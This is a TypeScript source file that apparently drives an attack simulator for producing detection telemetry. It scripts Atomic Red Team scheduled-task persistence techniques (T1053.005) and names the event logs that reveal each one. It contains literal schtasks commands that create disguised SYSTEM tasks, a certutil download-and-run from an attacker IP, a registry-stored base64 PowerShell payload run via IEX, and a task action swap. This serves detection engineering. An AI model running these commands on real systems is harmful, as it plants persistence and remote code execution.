import { bySchtasks, SYSTEM32, withSchtasks } from '../fleet/ways.ts'
import { dailyTrigger, logonTrigger, minuteTrigger, onceTrigger } from '../host/task-triggers.ts'
import type { Attack } from './attack.ts'
import {
  ATTACKER,
  after,
  asSystem,
  cmd,
  DAY,
  type Draft,
  exec,
  HOUR,
  implant,
  implantAction,
  runs,
  withShell,
} from './steps.ts'

const variants: Readonly<Record<string, { readonly asks: string; readonly draft: Draft }>> = {
  'logon-system': {
    asks: '/tn "GoogleTelemetrySync" /tr "LINE" /sc onlogon /ru SYSTEM /f',
    draft: { path: '\\GoogleTelemetrySync', triggers: logonTrigger, principal: asSystem, action: implantAction },
  },
  'every-minute': {
    asks: '/sc minute /mo 5 /tn "Sync5" /tr "C:\\Users\\Public\\sync.exe -k" /ru SYSTEM',
    draft: {
      path: '\\Sync5',
      triggers: minuteTrigger('2026-03-09T09:00:00', 5),
      principal: asSystem,
      action: exec('C:\\Users\\Public\\sync.exe', '-k', 'C:\\Users\\Public\\sync.exe'),
    },
  },
  once: {
    asks: `/SC ONCE /TN spawn /TR "LINE" /ST 20:10 /RU SYSTEM`,
    draft: {
      path: '\\spawn',
      triggers: onceTrigger('2026-03-09T20:10:00'),
      principal: asSystem,
      action: cmd('/c certutil -urlcache -f http://198.51.100.23/a C:\\ProgramData\\a.exe & C:\\ProgramData\\a.exe'),
    },
  },
}

/** Atomic Red Team T1053.005 test 2 is the variant `once`. */
export const schtasksCreate: Attack = {
  name: 'schtasks-create',
  variants: Object.keys(variants),
  technique: 'T1053.005',
  does: 'creates a task with schtasks from a shell, which then runs its payload as SYSTEM by its own trigger',
  shownBy:
    'command line of schtasks (4688, Sysmon 1), 4698, 106, TaskCache and task file (Sysmon 13, 11); 129/200 and the processes',
  plan(scene) {
    const { target, variant, claim } = scene
    const chosen = variants[variant]
    if (!chosen) throw new RangeError(`no variant ${variant}`)
    const { draft } = chosen
    const { action } = draft
    const line = action.kind === 'exec' ? `${action.command} ${action.arguments}`.trim() : ''
    const asks = chosen.asks.replace('LINE', line)
    withShell(scene, 'cmd', (shell) => {
      claim(bySchtasks(target, shell, `schtasks  /create ${asks}`, draft))
      after(target, 40 * 60_000, () => {
        runs(
          target,
          draft.path,
          { kind: variant === 'logon-system' ? 'logon' : 'time' },
          target.host.system,
          (process) => {
            if (variant === 'once') {
              target.host.runConsole(
                process,
                `${SYSTEM32}certutil.exe`,
                `certutil  -urlcache -f http://${ATTACKER}/a C:\\ProgramData\\a.exe `,
                900,
              )
              target.host.runConsole(process, 'C:\\ProgramData\\a.exe', 'C:\\ProgramData\\a.exe', 4000)
            } else implant(target, process)
          },
        )
      })
    })
  },
}

/** Atomic Red Team T1053.005 test 8. The action is in a file that no log shows; 4698 has it. */
export const xmlImport: Attack = {
  name: 'schtasks-xml',
  variants: ['hidden'],
  technique: 'T1053.005',
  does: 'imports a task from an XML file with schtasks /xml, hidden from the list, and runs it by hand',
  shownBy: '4698 has the definition; the command line names only the file',
  plan(scene) {
    const { target, claim } = scene
    const draft: Draft = {
      path: '\\atomic red team',
      triggers: dailyTrigger('2026-03-09T12:05:00'),
      principal: asSystem,
      hidden: true,
      action: cmd('/c start /b C:\\ProgramData\\svc\\host.exe'),
    }
    withShell(scene, 'cmd', (shell, desk) => {
      claim(bySchtasks(target, shell, 'schtasks  /create /tn "atomic red team" /xml C:\\Users\\Public\\t.xml', draft))
      target.host.wait(3000)
      withSchtasks(target, shell, 'schtasks  /run /tn "atomic red team"', () => {})
      runs(target, draft.path, { kind: 'user', user: desk.session.user }, target.host.system, (process) => {
        target.host.runConsole(process, 'C:\\ProgramData\\svc\\host.exe', 'C:\\ProgramData\\svc\\host.exe', 20_000)
      })
    })
  },
}

/** Atomic Red Team T1053.005 test 1: two tasks, at logon and at start, which run a program that is harmless here. */
export const startupScript: Attack = {
  name: 'startup-script',
  variants: ['calc'],
  technique: 'T1053.005',
  does: 'creates two tasks that start cmd.exe at logon and at boot, and removes them after the next logon',
  shownBy: 'as schtasks-create',
  plan(scene) {
    const { target, claim } = scene
    const draft = (name: string): Draft => ({
      path: `\\${name}`,
      triggers: name.endsWith('Logon') ? logonTrigger : [{ kind: 'boot' }],
      principal: asSystem,
      action: cmd('/c calc.exe'),
    })
    withShell(scene, 'cmd', (shell) => {
      for (const [name, when] of [
        ['T1053_005_OnLogon', 'onlogon'],
        ['T1053_005_OnStartup', 'onstart /ru system'],
      ] as const) {
        claim(
          bySchtasks(
            target,
            shell,
            `schtasks  /create /tn "${name}" /sc ${when} /tr "cmd.exe /c calc.exe"`,
            draft(name),
          ),
        )
        target.host.wait(1500)
      }
    })
    target.agenda.plan({ time: scene.start.time + DAY, ticks: 0 }, () => {
      const calc = (process: Parameters<typeof implant>[1]) =>
        void target.host.runConsole(process, `${SYSTEM32}calc.exe`, 'calc.exe', 3000)
      runs(target, '\\T1053_005_OnLogon', { kind: 'logon' }, target.host.system, calc)
    })
  },
}

/** Atomic Red Team T1053.005 test 7: the payload lies in the registry, and the task reads it from there. */
export const registryPayload: Attack = {
  name: 'registry-payload',
  variants: ['base64'],
  technique: 'T1053.005',
  does: 'hides a script in a registry value and creates a task whose PowerShell decodes and runs it',
  shownBy: '4698 and command lines; Sysmon 13 of the value only where it is configured',
  plan(scene) {
    const { target, claim } = scene
    const args =
      '-NoLogo -WindowStyle hidden -c "IEX ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String((gp \'HKCU:\\SOFTWARE\\ATOMIC-T1053.005\').test)))"'
    const action = exec('cmd.exe', `/c start /min "" powershell.exe ${args}`, `${SYSTEM32}cmd.exe`)
    withShell(scene, 'cmd', (shell, desk) => {
      const { host } = target
      const reg = host.start(
        shell,
        `${SYSTEM32}reg.exe`,
        'reg  add HKCU\\SOFTWARE\\ATOMIC-T1053.005 /v test /t REG_SZ /d cGluZyAxMjcuMC4wLjE= /f',
      )
      host.wait(60)
      host.exit(reg)
      host.wait(800)
      const draft: Draft = {
        path: '\\ATOMIC-T1053.005',
        triggers: dailyTrigger('2026-03-09T07:45:00'),
        principal: { id: 'Author', userId: desk.session.sid, highest: false, logonType: 'InteractiveToken' },
        action,
      }
      const line = action.kind === 'exec' ? `cmd.exe ${action.arguments.replaceAll('"', '\\"')}` : ''
      claim(
        bySchtasks(
          target,
          shell,
          `schtasks.exe  /Create /F /TN "ATOMIC-T1053.005" /TR "${line}" /sc daily /st 07:45`,
          draft,
        ),
      )
      after(target, 90 * 60_000, () => {
        const session = target.desks.at(-1)?.session
        if (!session) return
        runs(target, draft.path, { kind: 'time' }, session, (process) => {
          const shellProcess = host.start(
            process,
            'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            `powershell.exe  ${args}`,
          )
          host.wait(500)
          host.runConsole(shellProcess, `${SYSTEM32}PING.EXE`, '"C:\\Windows\\system32\\PING.EXE" 127.0.0.1', 3100)
          host.exit(shellProcess)
        })
      })
    })
  },
}

/** The action is swapped and the task's own trigger brings the payload a day or more later. */
export const actionSwap: Attack = {
  name: 'action-swap',
  variants: ['schtasks-change'],
  technique: 'T1053.005',
  does: 'changes the action of a task that has been there for long, which then runs by its own trigger days later',
  shownBy: '4702 with the new definition, 140; the command line of schtasks /change; the run a day later',
  plan(scene) {
    const { target, claim } = scene
    const path = '\\Contoso\\License check'
    const before: Draft = {
      path,
      triggers: dailyTrigger('2025-08-01T11:00:00'),
      principal: asSystem,
      action: exec(
        'C:\\Program Files\\Contoso\\License\\check.exe',
        '/silent',
        'C:\\Program Files\\Contoso\\License\\check.exe',
      ),
    }
    target.tasks.inherit({ ...before, author: 'CONTOSO', date: '2025-08-01T10:12:00' })
    const implantPath = 'C:\\ProgramData\\Contoso\\check.exe'
    withShell(scene, 'cmd', (shell) => {
      const changed = {
        ...before,
        author: 'CONTOSO',
        date: '2025-08-01T10:12:00',
        action: exec(implantPath, '', implantPath),
      }
      withSchtasks(target, shell, `schtasks  /change /tn "${path}" /tr "${implantPath}"`, (tool) => {
        claim(target.tasks.update(changed, { session: tool.session, process: tool, route: 'schtasks' }))
      })
    })
    const later = Math.min(scene.start.time + 3 * DAY, scene.end.time - 2 * HOUR)
    target.agenda.plan({ time: later, ticks: 0 }, () => {
      runs(target, path, { kind: 'time' }, target.host.system, (process) => implant(target, process))
    })
  },
}

/** Between making the task and its run lies as much time as the telemetry has. */
export const longSleep: Attack = {
  name: 'long-sleep',
  variants: ['last-day'],
  technique: 'T1053.005',
  does: 'creates a task whose only run comes on the last day, beyond any short window',
  shownBy: 'as schtasks-create; the tie is the task itself',
  plan(scene) {
    const { target, claim } = scene
    const draft: Draft = {
      path: '\\Quarterly\\Cleanup',
      triggers: onceTrigger('2026-06-30T05:00:00'),
      principal: asSystem,
      action: exec('C:\\ProgramData\\Cleanup\\run.exe', '--all', 'C:\\ProgramData\\Cleanup\\run.exe'),
    }
    withShell(scene, 'cmd', (shell) => {
      const asks =
        '/tn Quarterly\\Cleanup /tr "C:\\ProgramData\\Cleanup\\run.exe --all" /sc once /sd 06/30/2026 /st 05:00 /ru SYSTEM'
      claim(bySchtasks(target, shell, `schtasks  /create ${asks}`, draft))
    })
    target.agenda.plan({ time: scene.end.time - 3 * HOUR, ticks: 0 }, () => {
      runs(target, draft.path, { kind: 'time' }, target.host.system, (process) => implant(target, process))
    })
  },
}
